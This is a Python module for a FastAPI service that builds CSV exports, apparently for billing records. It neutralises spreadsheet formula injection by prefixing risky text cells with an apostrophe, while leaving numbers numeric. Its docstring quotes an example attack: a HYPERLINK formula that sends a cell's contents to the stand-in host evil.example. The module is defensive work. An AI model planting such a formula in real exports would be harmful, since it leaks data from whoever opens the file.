"""CSV for spreadsheets: text a spreadsheet would run as a formula is written as text (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets take a cell that starts with = + - @ (or a tab or carriage
return, or the full-width forms some of them fold into those) as a formula: a payer id sent as
'=HYPERLINK("https://evil.example/?"&A2, "Details")' in an encounter would run in the billing
office that opens the export. Such text cells get a leading apostrophe, which spreadsheets do not
show and read as "this is text"; a text cell of leading spaces before the trigger gets it too.

Numbers are not text: callers pass amounts as Decimal (counts as int, rates as float), written as
the numbers they are, so a negative balance "-125.50" stays a number a spreadsheet can sum. Only
text is neutralised, which is why an amount must never be passed preformatted as a string.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

from fastapi import Response

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
Cell = str | int | float | Decimal | None


def spreadsheet_cell(value: object) -> Cell:
    """The value as a CSV cell a spreadsheet cannot take for a formula: numbers as they are, text neutralised."""
    if value is None or (isinstance(value, int | float | Decimal) and not isinstance(value, bool)):
        return value  # type: ignore[return-value]
    text = str(value)
    return "'" + text if text.lstrip(" ").startswith(FORMULA_TRIGGERS) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """CRLF-terminated CSV (RFC 4180) of the header and rows, every cell through spreadsheet_cell."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    writer.writerows([spreadsheet_cell(value) for value in row] for row in rows)
    return out.getvalue()


def csv_response(header: Sequence[str], rows: Iterable[Sequence[object]], filename: str | None = None) -> Response:
    """text/csv response of csv_text, as an attachment when a filename is given."""
    headers = {"Content-Disposition": f'attachment; filename="{filename}"'} if filename else None
    return Response(csv_text(header, rows), media_type="text/csv", headers=headers)
